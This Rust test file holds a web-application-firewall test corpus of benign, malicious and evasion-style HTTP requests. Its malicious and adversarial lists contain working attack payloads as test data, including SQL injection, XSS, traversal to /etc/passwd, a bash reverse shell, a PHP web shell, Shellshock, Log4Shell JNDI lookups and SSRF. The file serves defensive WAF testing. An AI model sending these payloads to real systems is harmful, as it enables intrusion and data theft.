//! The example WAF's test corpus (nginx-conf/waf.lua): requests that are
//! benign, malicious and adversarial, as sent over HTTP. tests/waf.rs checks
//! the Lua WAF's verdicts on it, tests/waf_rust.rs the Rust WAF's against
//! them.
#![allow(dead_code)] // each test binary uses its own part of this file

use crate::common::{request, Nginx, Response};

/// What the WAF must say about a request.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Expect {
    Pass,
    /// Blocked by at least one rule of the family whose ids start at this.
    Block(u32),
    /// Whatever the rules say: only the two WAFs' agreement is checked.
    Any,
}

pub const SQLI: Expect = Expect::Block(10000);
pub const XSS: Expect = Expect::Block(20000);
pub const TRAVERSAL: Expect = Expect::Block(30000);
pub const RCE: Expect = Expect::Block(40000);
pub const SCANNER: Expect = Expect::Block(50000);
pub const RFI: Expect = Expect::Block(60000);
pub const PROBE: Expect = Expect::Block(70000);
pub const MISC: Expect = Expect::Block(80000);

pub struct Case {
    pub method: &'static str,
    /// Path and query as sent, after the location's prefix.
    pub target: String,
    pub headers: Vec<(&'static str, &'static str)>,
    pub body: Vec<u8>,
    pub expect: Expect,
}

/// Percent-encodes everything but RFC 3986's unreserved characters.
pub fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

pub fn form(pairs: &[(&str, &str)]) -> String {
    pairs
        .iter()
        .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
        .collect::<Vec<_>>()
        .join("&")
}

/// GET `path` with `query` encoded.
pub fn get(path: &str, query: &[(&str, &str)], expect: Expect) -> Case {
    let target = if query.is_empty() {
        path.to_string()
    } else {
        format!("{path}?{}", form(query))
    };
    Case {
        method: "GET",
        target,
        headers: vec![],
        body: vec![],
        expect,
    }
}

/// POST `body` of `content_type` to `path`.
pub fn post(path: &str, content_type: &'static str, body: &str, expect: Expect) -> Case {
    Case {
        method: "POST",
        target: path.to_string(),
        headers: vec![("Content-Type", content_type)],
        body: body.as_bytes().to_vec(),
        expect,
    }
}

pub fn post_form(path: &str, pairs: &[(&str, &str)], expect: Expect) -> Case {
    post(
        path,
        "application/x-www-form-urlencoded",
        &form(pairs),
        expect,
    )
}

/// GET `path` with one header.
pub fn with_header(path: &str, name: &'static str, value: &'static str, expect: Expect) -> Case {
    let mut case = get(path, &[], expect);
    case.headers.push((name, value));
    case
}

pub const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
                      (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
pub const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";

pub fn benign() -> Vec<Case> {
    use Expect::Pass;
    vec![
        get("", &[], Pass),
        get("index.html", &[], Pass),
        get("products", &[("category", "shoes"), ("size", "42")], Pass),
        get("search", &[("q", "how to select a good laptop")], Pass),
        get("search", &[("q", "union station opening hours")], Pass),
        get("search", &[("q", "Tom & Jerry's adventures")], Pass),
        get("search", &[("q", "price < 100 and rating > 4")], Pass),
        get("search", &[("q", "C++ templates")], Pass),
        get("search", &[("q", "email me at john.doe@example.com")], Pass),
        get("blog/2024/05/my-first-post", &[], Pass),
        get("static/css/site.min.css", &[("v", "1.2.3")], Pass),
        get("images/logo.png", &[], Pass),
        with_header("api/v2/users/42", "Accept", "application/json", Pass),
        post_form(
            "login",
            &[("user", "alice"), ("password", "S3cr3t!pass")],
            Pass,
        ),
        post_form(
            "comments",
            &[(
                "text",
                "Great article! I learned a lot about joins and select statements.",
            )],
            Pass,
        ),
        post(
            "items",
            "application/json",
            r#"{"name":"Widget","price":9.99,"tags":["a","b"]}"#,
            Pass,
        ),
        get("search", &[("q", "O'Reilly books")], Pass),
        get("search", &[("q", "rock 'n' roll")], Pass),
        get("search", &[("q", "100% cotton")], Pass),
        get("search", &[("q", "50% off on item #5")], Pass),
        get("download", &[("file", "report-2024.pdf")], Pass),
        get("docs/getting-started/installation", &[], Pass),
        get("login", &[("redirect", "/account/settings")], Pass),
        with_header("", "Accept-Language", "en-US,en;q=0.9,de;q=0.8", Pass),
        with_header("", "User-Agent", CHROME, Pass),
        with_header("", "User-Agent", FIREFOX, Pass),
        with_header("", "Cookie", "session=abc123; theme=dark; lang=en", Pass),
        with_header(
            "",
            "Referer",
            "https://www.example.com/search?q=shoes",
            Pass,
        ),
        get("search", &[("q", "sleep tips for babies")], Pass),
        get("search", &[("q", "benchmark results 2024")], Pass),
        get(
            "search",
            &[("q", "javascript tutorial for beginners")],
            Pass,
        ),
        get("search", &[("q", "onload event explained")], Pass),
        get("search", &[("q", "the script tag in html")], Pass),
        get(
            "list",
            &[("page", "2"), ("per_page", "50"), ("sort", "-created_at")],
            Pass,
        ),
        post("upload", "text/plain", "hello world\nsecond line\n", Pass),
        get("search", &[("q", "cat videos")], Pass),
        get("search", &[("q", "drop shipping business ideas")], Pass),
        get("search", &[("q", "1 + 1 = 2")], Pass),
        get("filter", &[("f", "name:eq:john")], Pass),
        get("jsonp", &[("callback", "jQuery123456_7890")], Pass),
        get(
            "",
            &[
                ("utm_source", "newsletter"),
                ("utm_medium", "email"),
                ("utm_campaign", "spring_sale"),
            ],
            Pass,
        ),
        get("users/me/avatar.jpg", &[], Pass),
        post_form(
            "address",
            &[("street", "12 Main St; Apt 4"), ("city", "Springfield")],
            Pass,
        ),
        get(
            "search",
            &[("q", "where to buy tickets from the union")],
            Pass,
        ),
        get(
            "report",
            &[("from", "2024-01-01"), ("to", "2024-12-31")],
            Pass,
        ),
        post(
            "graphql",
            "application/json",
            r#"{"query":"mutation { addItem(name: \"x\") { id } }"}"#,
            Pass,
        ),
        get(
            "search",
            &[("q", "I'd like to select items from the menu where possible")],
            Pass,
        ),
        with_header(
            "api/me",
            "Authorization",
            "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
            Pass,
        ),
        get("search", &[("q", "<3 you")], Pass),
        post(
            "notes",
            "application/json",
            r#"{"note":"Use the ../ notation for parent directories"}"#,
            Pass,
        ),
        get("healthz", &[], Pass),
    ]
}

pub fn malicious() -> Vec<Case> {
    vec![
        // SQL injection
        get("item", &[("q", "1' OR '1'='1")], SQLI),
        get(
            "item",
            &[("id", "1 UNION SELECT username, password FROM users")],
            SQLI,
        ),
        get("item", &[("id", "1; DROP TABLE users")], SQLI),
        post_form("login", &[("user", "admin'--"), ("password", "x")], SQLI),
        get("item", &[("id", "1 AND SLEEP(5)")], SQLI),
        get(
            "item",
            &[("id", "1' AND extractvalue(1,concat(0x7e,version()))--")],
            SQLI,
        ),
        get(
            "item",
            &[(
                "q",
                "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
            )],
            SQLI,
        ),
        get("item", &[("id", "1/**/UNION/**/SELECT/**/1,2,3")], SQLI),
        with_header("", "Cookie", "session=1' or 1=1--", SQLI),
        post_form(
            "login",
            &[("username", "admin"), ("password", "' or ''='")],
            SQLI,
        ),
        get("item", &[("id", "1; WAITFOR DELAY '0:0:5'--")], SQLI),
        // XSS
        get("search", &[("q", "<script>alert(1)</script>")], XSS),
        get("search", &[("q", "<img src=x onerror=alert(1)>")], XSS),
        get(
            "profile",
            &[("name", "\"><svg onload=alert(document.domain)>")],
            XSS,
        ),
        get("go", &[("url", "javascript:alert(document.cookie)")], XSS),
        post_form(
            "comments",
            &[("text", "<iframe src=\"https://evil.example/\"></iframe>")],
            XSS,
        ),
        get("search", &[("q", "\" onmouseover=\"alert(1)")], XSS),
        get("search", &[("q", "<body onpageshow=alert(1)>")], XSS),
        with_header("", "Referer", "<script>alert(1)</script>", XSS),
        get("go", &[("url", "java\tscript:alert(1)")], XSS),
        get("search", &[("q", "%3Cscript%3Ealert(1)%3C/script%3E")], XSS),
        // path traversal and local files
        get("download", &[("file", "../../../../etc/passwd")], TRAVERSAL),
        get(
            "download",
            &[("file", "..%2f..%2f..%2fetc%2fpasswd")],
            TRAVERSAL,
        ),
        get("view", &[("page", "/etc/shadow")], TRAVERSAL),
        get("static/..%252f..%252fetc/passwd", &[], TRAVERSAL),
        get("view", &[("template", "....//....//etc/passwd")], TRAVERSAL),
        get("view", &[("file", "C:\\windows\\win.ini")], TRAVERSAL),
        get("view", &[("doc", "/proc/self/environ")], TRAVERSAL),
        // command injection
        get("ping", &[("host", "127.0.0.1; cat /etc/passwd")], RCE),
        get("ping", &[("ip", "8.8.8.8 | id")], RCE),
        get("run", &[("name", "$(whoami)")], RCE),
        get("run", &[("q", "`uname -a`")], RCE),
        get(
            "run",
            &[("x", "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")],
            RCE,
        ),
        post_form("eval", &[("code", "<?php system($_GET['c']); ?>")], RCE),
        with_header(
            "cgi",
            "User-Agent",
            "() { :; }; /bin/bash -c 'cat /etc/passwd'",
            RCE,
        ),
        // scanners
        with_header(
            "",
            "User-Agent",
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            SCANNER,
        ),
        with_header(
            "",
            "User-Agent",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
            SCANNER,
        ),
        with_header(
            "",
            "User-Agent",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            SCANNER,
        ),
        with_header("", "User-Agent", "gobuster/3.6", SCANNER),
        with_header(
            "",
            "User-Agent",
            "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
            SCANNER,
        ),
        // stream wrappers
        get(
            "view",
            &[(
                "page",
                "php://filter/convert.base64-encode/resource=index.php",
            )],
            RFI,
        ),
        get("view", &[("page", "expect://id")], RFI),
        // probes
        get(".git/config", &[], PROBE),
        get(".env", &[], PROBE),
        get("wp-config.php.bak", &[], PROBE),
        get("phpmyadmin/index.php", &[], PROBE),
        get("actuator/env", &[], PROBE),
        // everything else
        with_header("", "X-Api-Version", "${jndi:ldap://evil.example/a}", MISC),
        get("hello", &[("name", "{{7*7}}")], MISC),
        get(
            "fetch",
            &[("url", "http://169.254.169.254/latest/meta-data/")],
            MISC,
        ),
        post(
            "login",
            "application/json",
            r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#,
            MISC,
        ),
        get("login", &[("user[$ne]", "x")], MISC),
        post(
            "xml",
            "application/xml",
            r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
            MISC,
        ),
        get("login", &[("redirect", "\r\nSet-Cookie: admin=1")], MISC),
    ]
}

/// GET `target` as it is written (already percent-encoded, or not).
pub fn raw(target: &str) -> Case {
    get(target, &[], Expect::Any)
}

/// Inputs where PCRE and another regex engine could part: case, encodings
/// (those nginx decodes once and those it leaves), bytes that are not
/// UTF-8, whitespace beyond ASCII's, a newline before the end (PCRE's `$`),
/// repeated and valueless arguments, repeated headers, long inputs and
/// inputs built to make a backtracking engine work.
pub fn adversarial() -> Vec<Case> {
    use Expect::Any;
    let mut cases = vec![
        get("item", &[("q", "1' oR '1'='1")], Any),
        get("item", &[("id", "1 UnIoN/**/SeLeCt 1,2")], Any),
        get("search", &[("q", "<ScRiPt>alert(1)</sCrIpT>")], Any),
        get("go", &[("url", "JaVaScRiPt:alert(1)")], Any),
        with_header("", "User-Agent", "SQLMap/1.0", Any),
        raw(".GiT/config"),
        raw("view?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        raw("view?file=%252e%252e%252fetc%252fpasswd"),
        raw("a/b/%2e%2e/%2e%2e/etc/passwd"),
        raw("view?q=%26%23x3c%3Bscript%3Ealert(1)"),
        get("view", &[("q", "\\u003cscript>alert(1)")], Any),
        get("view", &[("q", "+ADw-script+AD4-alert(1)")], Any),
        raw("view?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        raw("view?q=%FF%FE%3Cscript%3E%80"),
        get("view", &[("q", "\u{ff1c}script\u{ff1e}alert(1)")], Any),
        raw("view?q=1%20union%0Bselect%20password"),
        raw("view?q=1%20union%0Cselect%20password"),
        raw("view?q=1%20union%85select%20password"),
        raw("view?q=1%20union%A0select%20password"),
        raw("view?q=x%09or%091=1--"),
        // Non-ASCII letters and spaces in UTF-8: PCRE's byte mode does not
        // take them for word characters, spaces or case variants.
        get("view", &[("q", "1 union\u{a0}select password")], Any),
        get("view", &[("q", "\u{e9}union select password")], Any),
        get("view", &[("q", "1 union \u{17f}elect password")], Any),
        get("view", &[("q", "<\u{212a}eygen>")], Any),
        raw("view?file=..%00/etc/passwd"),
        raw("wp-config.php.bak%0A"),
        raw("wp-config.php.bak%0A%0A"),
        raw("ping?h=x;%20ls%0A"),
        raw("ping?h=x;%20ls%0Ax"),
        raw("item?id=1%20or%201=1%0A"),
        raw("view?page=/etc/passwd%0A"),
        with_header("", "User-Agent", "-", Any),
        with_header("", "User-Agent", "", Any),
        raw("search?q=hello&q=%3Cscript%3E&flag&empty=&=x"),
        raw("search?a=1&a=2&a=%27%20or%20%271%27=%271"),
    ];
    let mut two_agents = with_header("", "User-Agent", CHROME, Any);
    two_agents.headers.push(("User-Agent", "Nikto/2.1.6"));
    cases.push(two_agents);
    let long = "a".repeat(60_000);
    cases.push(post_form(
        "comments",
        &[("text", &format!("{long}<script>alert(1)</script>"))],
        Any,
    ));
    cases.push(post(
        "upload",
        "text/plain",
        &format!("{long} union select 1"),
        Any,
    ));
    cases.push(get("search", &[("q", &"z".repeat(6000))], Any));
    for unit in [
        "select a from b where ",
        "${",
        "${j${",
        "{{",
        "' or ",
        "<a ",
        "../",
        "%2e",
        "1 and 1=",
    ] {
        let body = unit.repeat(6_000 / unit.len());
        cases.push(post("upload", "text/plain", &body, Any));
    }
    cases
}

pub fn corpus() -> Vec<Case> {
    let mut all = benign();
    all.extend(malicious());
    all
}

pub fn send(nginx: &Nginx, prefix: &str, case: &Case) -> Response {
    request(
        nginx.port,
        case.method,
        &format!("{prefix}{}", case.target),
        &case.headers,
        &case.body,
    )
}
